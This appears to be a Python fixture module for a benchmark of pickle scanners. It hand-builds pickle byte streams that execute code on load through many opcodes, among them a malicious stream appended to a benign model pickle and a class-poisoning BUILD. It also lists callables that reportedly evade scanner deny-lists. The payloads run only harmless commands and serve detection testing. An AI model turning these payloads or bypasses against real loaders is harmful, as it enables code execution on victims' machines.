"""Hand-assembled pickles for techniques `pickle.dumps` cannot produce on its own.

Every payload is harmless (`os.system('true')`, `print`, a connection to a closed local
port); none of these bytes is ever unpickled by the benchmark.
"""

from __future__ import annotations

import os
import pickle
import struct


class SystemPayload:
    """Pickles as a call to `os.system('true')` (recorded as `posix.system` on Linux)."""

    def __reduce__(self) -> tuple[object, tuple[str]]:
        return (os.system, ("true",))


def _unicode(text: str) -> bytes:
    data = text.encode()
    return pickle.SHORT_BINUNICODE + bytes([len(data)]) + data


def _body(value: object) -> bytes:
    """`value` pickled at protocol 2 without the PROTO header and the STOP."""
    return pickle.dumps(value, protocol=2)[2:-1]


def call(module: str, name: str, args: tuple[object, ...]) -> bytes:
    """A protocol-2 pickle that calls `module.name(*args)` through GLOBAL + REDUCE."""
    head = pickle.PROTO + b"\x02" + pickle.GLOBAL + f"{module}\n{name}\n".encode()
    return head + _body(args) + pickle.REDUCE + pickle.STOP


def memo_stack_global() -> bytes:
    """STACK_GLOBAL whose module and name come back from the memo, not from literals."""
    return (
        pickle.PROTO
        + b"\x04"
        + _unicode("os")
        + pickle.MEMOIZE
        + pickle.POP
        + _unicode("system")
        + pickle.MEMOIZE
        + pickle.POP
        + pickle.BINGET
        + b"\x00"
        + pickle.BINGET
        + b"\x01"
        + pickle.STACK_GLOBAL
        + _unicode("true")
        + pickle.TUPLE1
        + pickle.REDUCE
        + pickle.STOP
    )


def inst() -> bytes:
    """Protocol 0 INST: the class and the call in one opcode."""
    return b"(S'true'\nios\nsystem\n."


def obj() -> bytes:
    """OBJ: MARK, callable, arguments, then `callable(*arguments)`."""
    return b"(cos\nsystem\nS'true'\no."


def newobj() -> bytes:
    """NEWOBJ on `subprocess.Popen` (`cls.__new__(cls, *args)`)."""
    return (
        pickle.PROTO
        + b"\x02"
        + pickle.GLOBAL
        + b"subprocess\nPopen\n"
        + _body((["true"],))
        + pickle.NEWOBJ
        + pickle.STOP
    )


def newobj_ex() -> bytes:
    """Protocol 4 NEWOBJ_EX on `subprocess.Popen` with positional and keyword arguments."""
    return (
        pickle.PROTO
        + b"\x04"
        + _unicode("subprocess")
        + _unicode("Popen")
        + pickle.STACK_GLOBAL
        + _unicode("true")
        + pickle.TUPLE1
        + pickle.EMPTY_DICT
        + _unicode("shell")
        + pickle.NEWTRUE
        + pickle.SETITEM
        + pickle.NEWOBJ_EX
        + pickle.STOP
    )


def ext() -> bytes:
    """EXT2: a callable named only by a copyreg extension code, resolved at load time."""
    return (
        pickle.PROTO
        + b"\x02"
        + pickle.EXT2
        + struct.pack("<H", 0x1234)
        + _body(("true",))
        + pickle.REDUCE
        + pickle.STOP
    )


def second_stream() -> bytes:
    """A benign pickle with a malicious one appended (read by multi-stream loaders)."""
    benign = pickle.dumps({"weights": [0.5, 1.5], "epoch": 3}, protocol=4)
    return benign + pickle.dumps(SystemPayload(), protocol=4)


def build_dunder() -> bytes:
    """BUILD on an allowed class (`collections.Counter`) that sets its `__reduce__`.

    Only allowed globals appear; the attack is the state that reaches a dunder through
    `setattr`, poisoning the class for every later pickling and copy in the process.
    """
    return (
        pickle.PROTO
        + b"\x02"
        + pickle.GLOBAL
        + b"collections\nCounter\n"
        + pickle.NONE
        + pickle.EMPTY_DICT
        + pickle.BINUNICODE
        + struct.pack("<I", len("__reduce__"))
        + b"__reduce__"
        + pickle.GLOBAL
        + b"collections\nOrderedDict\n"
        + pickle.SETITEM
        + pickle.TUPLE2
        + pickle.BUILD
        + pickle.STOP
    )


#: Callables that are not on the usual deny-lists but run code, spawn or fetch, as seen in
#: published scanner bypasses: name -> (module, callable, harmless arguments).
UNLISTED_CALLABLES: dict[str, tuple[str, str, tuple[object, ...]]] = {
    "collect_env_run": ("torch.utils.collect_env", "run", ("true",)),
    "spawnv_passfds": ("multiprocessing.util", "spawnv_passfds", ("/bin/true", ["true"], ())),
    "pandas_read_csv": ("pandas.io.parsers.readers", "read_csv", ("http://127.0.0.1:9/x.csv",)),
    "urlopen": ("urllib.request", "urlopen", ("http://127.0.0.1:9/",)),
    "numpy_runstring": ("numpy.testing._private.utils", "runstring", ("print('hi')", {})),
    "pty_spawn": ("pty", "spawn", ("true",)),
    "timeit": ("timeit", "timeit", ("print('hi')",)),
    "pip_main": ("pip", "main", (["--version"],)),
}
